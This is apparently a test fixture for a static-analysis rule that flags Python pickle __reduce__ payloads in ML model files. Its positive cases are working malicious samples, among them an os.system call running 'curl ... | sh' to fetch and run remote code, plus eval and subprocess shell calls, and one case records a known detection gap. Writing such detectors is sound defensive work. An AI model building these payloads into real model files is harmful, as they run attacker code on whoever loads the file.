# Tests for py-mlhub-reduce-payload: `warden test-rules rulesets/mlhub`.
import builtins
import os
import pickle
import subprocess
from os import system as run_shell

import torch


class Payload:
    def __reduce__(self):
        # ruleid: py-mlhub-reduce-payload
        return (os.system, ("curl -s https://example.org/x | sh",))


class ProcessPayload:
    def __reduce_ex__(self, protocol):
        # ruleid: py-mlhub-reduce-payload
        return subprocess.Popen, (["sh", "-c", "id"],)


class EvalPayload:
    def __reduce__(self):
        # ruleid: py-mlhub-reduce-payload
        return eval, ("__import__('os').system('id')",)


class BuiltinsPayload:
    def __reduce__(self):
        # ruleid: py-mlhub-reduce-payload
        return (builtins.exec, ("import os",))


class AliasedPayload:
    def __reduce__(self):
        # ruleid: py-mlhub-reduce-payload
        return (run_shell, ("id",))


class IndirectPayload:
    def __reduce__(self):
        # A callable reached through getattr of a computed module is not seen.
        # todoruleid: py-mlhub-reduce-payload
        return (getattr(pickle.loads(b"..."), "system"), ("id",))


class TokenizerState:
    # The ordinary kind: rebuild the object from its constructor arguments.
    def __init__(self, vocab, merges):
        self.vocab = vocab
        self.merges = merges

    def __reduce__(self):
        # ok: py-mlhub-reduce-payload
        return (self.__class__, (self.vocab, self.merges))


class QuantizedLinear(torch.nn.Module):
    def __reduce_ex__(self, protocol):
        # ok: py-mlhub-reduce-payload
        return (type(self), (self.in_features, self.out_features), self.__dict__)


def save(model, path):
    # Outside __reduce__: py-exec-os-system's business.
    # ok: py-mlhub-reduce-payload
    os.system("sync")
    torch.save(model.state_dict(), path)
